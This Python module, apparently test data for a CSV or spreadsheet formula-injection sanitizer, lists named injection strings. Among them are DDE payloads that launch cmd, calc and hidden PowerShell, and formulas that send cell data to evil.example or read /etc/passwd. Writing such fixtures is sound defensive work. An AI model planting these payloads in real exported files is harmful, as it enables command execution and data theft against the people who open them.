"""
Texts that a spreadsheet may take for a formula, by a short name each.

The classes are those that are publicly known: each sign that begins a formula, alone and after what programs skip or strip;
functions that send data away, start programs or open links; and texts that leave their cell where a program reads other
separators or quotes than they were written with.
"""

from __future__ import annotations

from typing import Final

INJECTIONS: Final[dict[str, str]] = {
    # Each sign that begins a formula.
    "equals": "=1+1",
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(1,1)",
    "minus-then-plus": "-2+3+cmd|' /C calc'!A0",
    "plus-then-equals": "+=1+1",
    "equals-twice": "==1+1",
    "equals-then-at": "=@SUM(1)",
    "equals-then-space": "= 1+1",
    "equals-then-tab": "=\t1+1",
    "equals-alone": "=",
    "equals-percent": "=1%",
    "equals-quoted-text": '="a ""b"" c"&1',
    "array": "={1;2}",
    "array-in-braces": "{=SUM(1;1)}",
    "lower-case": "=sum(1;1)",
    "mixed-case": "=sUm(1,1)",
    "another-language": "=SUMME(1;1)",
    "another-alphabet": "=СУММ(1;1)",  # noqa: RUF001
    "file-format-prefix": "of:=1+1",
    "older-file-format-prefix": "oooc:=1+1",
    "long": "=" + "+".join(["1"] * 500),
    "nested": "=" + "ABS(" * 40 + "1" + ")" * 40,
    # What programs skip, strip or do not show in front of a sign.
    "tab": "\t=1+1",
    "carriage-return": "\r=1+1",
    "line-feed": "\n=1+1",
    "both-line-ends": "\r\n=1+1",
    "vertical-tab": "\v=1+1",
    "form-feed": "\f=1+1",
    "nul": "\0=1+1",
    "start-of-heading": "\x01=1+1",
    "spaces": "   =1+1",
    "space-then-tab": " \t=1+1",
    "no-break-space": "\u00a0=1+1",
    "ideographic-space": "\u3000=1+1",
    "zero-width-space": "\u200b=1+1",
    "byte-order-mark": "\ufeff=1+1",
    "soft-hyphen": "\u00ad=1+1",
    "right-to-left-override": "\u202e=1+1",
    "line-separator": "\u2028=1+1",
    # Signs that look, or are read, like those.
    "full-width-equals": "＝1+1",  # noqa: RUF001
    "full-width-plus": "＋1+1",  # noqa: RUF001
    "full-width-minus": "－1+1",  # noqa: RUF001
    "full-width-at": "＠SUM(1)",  # noqa: RUF001
    "unicode-minus": "−1+1",  # noqa: RUF001
    "small-equals": "﹦1+1",
    # An apostrophe that is the text's own.
    "apostrophe": "'=1+1",
    "two-apostrophes": "''=1+1",
    "space-then-apostrophe": " '=1+1",
    "apostrophe-alone": "'",
    # Data that leaves, programs that start, links that open.
    "dde": "=cmd|' /C calc'!A0",
    "dde-after-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "dde-of-a-shell": "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "dde-of-powershell": "+cmd|'/c powershell -w hidden -e AAAA'!'A1'",
    "dde-function": '=DDE("soffice";"/etc/passwd";"A1")',
    "hyperlink": '=HYPERLINK("https://evil.example/?"&A1;"Open")',
    "hyperlink-with-commas": '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    "macro-link": '=HYPERLINK("macro:///Tools.Debug.ActivateReadOnlyFlag()";"x")',
    "script-link": '=HYPERLINK("vnd.sun.star.script:evil.py$run?language=Python&location=share";"x")',
    "webservice": '=WEBSERVICE("https://evil.example/?"&A1)',
    "filterxml": '=FILTERXML(WEBSERVICE("https://evil.example/");"//a")',
    "importxml": '=IMPORTXML(CONCAT("https://evil.example/?";A1:A9);"//a")',
    "importdata": '=IMPORTDATA("https://evil.example/")',
    "image": '=IMAGE("https://evil.example/"&A1)',
    "file-of-the-reader": "='file:///etc/passwd'#$passwd.A1",
    "share-of-a-stranger": "='\\\\evil.example\\share\\[book.xlsx]sheet'!A1",
    "macro-of-a-worksheet": '=EXEC("calc.exe")',
    "indirect": '=INDIRECT("A"&"1")',
    # Texts that leave their cell: where it ends is another matter with other separators or quotes.
    "comma": "x,=1+1,y",
    "comma-closes-quote": 'x",=1+1,"y',
    "semicolon": "x;=1+1;y",
    "semicolon-first": ";=1+1",
    "semicolon-closes-quote": 'x";=1+1;"y',
    "semicolon-closes-quote-then-space": 'x"; =1+1;"y',
    "semicolon-closes-quote-then-quote": 'x";"=1+1;"y',
    "semicolon-closes-quote-then-apostrophe": "x\";'=1+1;\"y",
    "semicolon-closes-quote-then-dde": "x\";=cmd|' /C calc'!A0;\"y",
    "tab-within": "x\t=1+1\ty",
    "tab-closes-quote": 'x"\t=1+1\t"y',
    "semicolon-then-tab": 'x";\t=1+1\t;"y',
    "line-feed-within": "x\n=1+1\ny",
    "line-feed-closes-quote": 'x"\n=1+1\n"y',
    "line-feed-then-quote": 'x"\n"=1+1;"y',
    "carriage-return-within": "x\r=1+1\ry",
    "both-line-ends-within": 'x"\r\n=1+1\r\n"y',
    "row-within": 'x"\r\n"=1+1","=1+1"\r\n"y',
    "pipe": 'x"|=1+1|"y',
    "quotes": '"=1+1"',
    "quotes-twice": '""=1+1""',
    "quote-never-closed": '"=1+1',
    "backslash": '\\"=1+1',
    "separator-line": "sep=;\n=1+1;",
    "percent-encoded": "%0A=1+1",
}  # fmt: skip
